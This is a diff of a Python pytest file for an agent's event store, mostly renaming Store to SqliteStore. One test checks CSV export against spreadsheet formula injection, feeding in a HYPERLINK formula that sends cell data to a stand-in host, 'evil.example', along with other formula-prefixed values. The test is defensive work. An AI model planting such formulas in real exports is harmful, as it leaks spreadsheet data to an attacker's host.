@@ -11,8 +11,8 @@ from pathlib import Path
 
 import pytest
 
-from agents.cli import add_log_arguments, log_main
-from agents.store import Store
+from agents.config import add_log_arguments
+from agents.store import SqliteStore, log_main
 from wardcast.protocol import Event, EventType, encode
 
 AT = datetime(2026, 11, 28, 23, 0, 0, 4000, tzinfo=UTC)
@@ -24,9 +24,9 @@ def parse(*argv: str) -> argparse.Namespace:
     return parser.parse_args(list(argv))
 
 
-def fill(state_dir: Path) -> Store:
+def fill(state_dir: Path) -> SqliteStore:
     """Log three events, confirm the first; the store stays open, as in a running agent."""
-    store = Store(state_dir / "agent.sqlite3")
+    store = SqliteStore(state_dir / "agent.sqlite3")
     for n, type_ in enumerate((EventType.STARTED, EventType.INTERRUPTED, EventType.ACCEPTED)):
         event = Event(event_id=f"evt-{n:05d}", playback_id=500 + n, type=type_, at=AT,
                       clock_offset_ms=-12, boot_id="boot-1",
@@ -76,7 +76,7 @@ def test_a_state_dir_without_a_database_is_an_error(tmp_path: Path) -> None:
 
 def test_csv_reasons_never_reach_a_spreadsheet_as_formulas(
         tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    store = Store(tmp_path / "agent.sqlite3")
+    store = SqliteStore(tmp_path / "agent.sqlite3")
     reasons = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1)", "@SUM(1)",
                "-1+1", "\t=1", "decoder crashed"]
     for n, reason in enumerate(reasons):
